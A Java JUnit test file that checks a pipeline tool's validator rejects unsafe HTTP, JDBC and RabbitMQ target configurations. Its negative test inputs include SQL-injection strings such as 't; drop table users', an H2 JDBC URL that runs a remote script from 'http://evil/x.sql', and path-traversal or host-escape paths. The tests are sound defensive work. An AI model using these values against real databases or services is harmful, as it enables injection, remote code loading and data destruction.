package dev.sluice.target;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;

import org.junit.jupiter.api.Test;

import dev.sluice.flow.FlowJson;
import dev.sluice.flow.FlowNode;
import dev.sluice.flow.FlowProblem;
import dev.sluice.flow.Problems;
import dev.sluice.pipeline.NodeRegistry;
import dev.sluice.pipeline.ValidationContext;

class TargetKindsTest {

    private static List<FlowProblem> problems(String kind, String config) {
        return problems(kind, config, ValidationContext.standalone("finance"));
    }

    private static List<FlowProblem> problems(String kind, String config, ValidationContext context) {
        Problems problems = new Problems().at(".config");
        NodeRegistry.builtIn().validateConfig(
                new FlowNode("t", kind, (com.fasterxml.jackson.databind.node.ObjectNode) FlowJson.parse(config)),
                context, problems);
        return problems.all();
    }

    @Test
    void refusesHttpTargetsWithCredentialsInTheUrlOrReservedHeaders() {
        assertThat(problems("target.http", """
                {"url": "https://user:pw@ledger.internal/x", "headers": {"Idempotency-Key": "x", "bad header": "y"}}"""))
                .extracting(FlowProblem::path)
                .containsExactlyInAnyOrder("$.config.url", "$.config.headers['Idempotency-Key']",
                        "$.config.headers['bad header']");
        assertThat(problems("target.http", """
                {"url": "ftp://ledger.internal/x"}""")).extracting(FlowProblem::path).containsExactly("$.config.url");
    }

    @Test
    void takesEventValuesOnlyInAWebhooksPathAndOnlySingleValues() {
        assertThat(problems("target.http", """
                {"url": "https://ledger.internal/users/{$.data.userId}?v={$.data.version}",
                 "methods": {"user.created": "POST", "user.*": "PUT"}, "deleteOn": ["user.deleted", "*.purged"]}"""))
                .isEmpty();
        assertThat(problems("target.http", """
                {"url": "https://{$.data.host}/users"}""")).extracting(FlowProblem::message)
                .containsExactly("can take values from the event only in its path, after the host");
        assertThat(problems("target.http", """
                {"url": "https://ledger.internal/users/{$.data.ids[*]}"}""")).extracting(FlowProblem::message)
                .containsExactly("{$.data.ids[*]} must name one value: no [*]");
        assertThat(problems("target.http", """
                {"connection": "ledger-api", "path": "/users/{$.data.userId"}""",
                ValidationContext.standalone("finance"))).extracting(FlowProblem::path).contains("$.config.path");
        assertThat(problems("target.http", """
                {"url": "https://ledger.internal/x", "methods": {"user created": "PUT"}}"""))
                .extracting(FlowProblem::path).containsExactly("$.config.methods['user created']");
        assertThat(problems("target.http", """
                {"url": "https://ledger.internal/x", "deleteOn": ["a b"]}"""))
                .extracting(FlowProblem::path).containsExactly("$.config.deleteOn[0]");
    }

    @Test
    void refusesJdbcSyncSettingsThatCannotWork() {
        assertThat(problems("target.jdbc", """
                {"connection": "ledger-db", "table": "accounts", "key": ["id"], "columns": {"id": "$.data.id"},
                 "softDelete": "id", "version": "$.data.changes[*]", "keepTombstonesDays": 3}"""))
                .extracting(FlowProblem::path)
                .contains("$.config.softDelete", "$.config.version");
        assertThat(problems("target.jdbc", """
                {"connection": "ledger-db", "table": "accounts", "key": ["id"], "columns": {"id": "$.data.id"},
                 "softDelete": "gone; drop table x", "keepTombstonesDays": 3}"""))
                .extracting(FlowProblem::path)
                .contains("$.config.softDelete", "$.config.keepTombstonesDays");
    }

    @Test
    void refusesHttpTargetsWithASecretGivenAsPlainTextWhereAReferenceIsNeeded() {
        assertThat(problems("target.http", """
                {"url": "https://ledger.internal/x", "signature": {"key": "plain-secret"}}"""))
                .extracting(FlowProblem::path).containsExactly("$.config.signature.key");
    }

    @Test
    void refusesJdbcTargetsWhoseTableOrColumnsCouldInjectSql() {
        assertThat(problems("target.jdbc", """
                {"connection": "ledger-db", "table": "t; drop table users", "key": ["id", "ghost"],
                 "columns": {"id": "$.data.userId", "name\\"; --": "$.data.name", "tags": "$.data.tags[*]"}}"""))
                .extracting(FlowProblem::path)
                .containsExactlyInAnyOrder("$.config.table", "$.config.columns['name\"; --']",
                        "$.config.columns.tags", "$.config.key[1]");
    }

    @Test
    void refusesAJdbcUrlOrCredentialsTypedIntoAFlowInsteadOfAConnection() {
        assertThat(problems("target.jdbc", """
                {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "username": "sa",
                 "password": {"secret": "db"}, "table": "t", "key": ["id"], "columns": {"id": "$.id"}}"""))
                .extracting(FlowProblem::path, FlowProblem::message)
                .contains(org.assertj.core.groups.Tuple.tuple("$.config.connection", "is required"),
                        org.assertj.core.groups.Tuple.tuple("$.config.url", "is not a known setting here"));
    }

    @Test
    void refusesRabbitMqTargetsThatNameABrokerInsteadOfAConnection() {
        assertThat(problems("target.rabbitmq", """
                {"exchange": "x", "broker": {"uri": "amqp://guest:guest@rabbit:5672/"}}"""))
                .extracting(FlowProblem::path).contains("$.config.broker");
        assertThat(problems("target.rabbitmq", """
                {"exchange": "ledger", "routingKey": "k", "connection": "partner-mq"}""")).isEmpty();
    }

    @Test
    void keepsAPlatformBrokerTargetInsideItsWorkspacesNamespace() {
        ValidationContext finance = new ValidationContext("finance", name -> switch (name) {
            case "user-center.users" -> Optional.of(new ValidationContext.SourceInfo(name, List.of(), true, false));
            case "finance.payments" -> Optional.of(new ValidationContext.SourceInfo(name, List.of(), true, true));
            default -> Optional.empty();
        });

        assertThat(problems("target.rabbitmq", "{\"exchange\": \"ws.finance.ledger\"}", finance)).isEmpty();
        assertThat(problems("target.rabbitmq", "{\"exchange\": \"finance.payments\"}", finance)).isEmpty();
        for (String outside : List.of("user-center.users", "ws.customer-service.contacts", "", "amq.topic",
                "sluice.retry", "ws.finance.", "ws.finance", "nowhere")) {
            assertThat(problems("target.rabbitmq", "{\"exchange\": \"" + outside + "\"}", finance))
                    .as(outside).extracting(FlowProblem::path).containsExactly("$.config.exchange");
        }
        assertThat(problems("target.rabbitmq", "{\"exchange\": \"user-center.users\"}", finance).getFirst().message())
                .isEqualTo(problems("target.rabbitmq", "{\"exchange\": \"nowhere\"}", finance).getFirst().message()
                        .replace("'nowhere'", "'user-center.users'"));
    }

    @Test
    void refusesAConnectionOfAnotherKindOrOneTheWorkspaceLacks() {
        ValidationContext finance = new ValidationContext("finance", name -> Optional.empty(),
                name -> name.equals("ledger-api") ? Optional.of("http") : Optional.empty());

        assertThat(problems("target.jdbc", """
                {"connection": "ledger-api", "table": "t", "key": ["id"], "columns": {"id": "$.id"}}""", finance))
                .extracting(FlowProblem::message)
                .containsExactly("'ledger-api' is a http connection; this target needs a jdbc connection");
        assertThat(problems("target.http", "{\"connection\": \"nope\", \"path\": \"/x\"}", finance))
                .extracting(FlowProblem::path).containsExactly("$.config.connection");
    }

    @Test
    void refusesSecretsInAnHttpTargetsOwnHeadersAndPathsThatLeaveTheConnection() {
        assertThat(problems("target.http", """
                {"url": "https://hooks.example.com/x", "headers": {"Authorization": {"secret": "token"}}}"""))
                .extracting(FlowProblem::path).containsExactly("$.config.headers.Authorization");
        for (String path : List.of("/../admin", "//evil.example.com/x", "@evil.example.com", "http://evil/")) {
            assertThat(problems("target.http", "{\"connection\": \"ledger-api\", \"path\": \"" + path + "\"}"))
                    .as(path).extracting(FlowProblem::path).containsExactly("$.config.path");
        }
        assertThat(problems("target.http", "{\"connection\": \"ledger-api\", \"path\": \"/events?v=2\"}"))
                .isEmpty();
        assertThat(problems("target.http", "{\"connection\": \"ledger-api\", \"url\": \"https://x.example/\"}"))
                .isNotEmpty();
    }
}
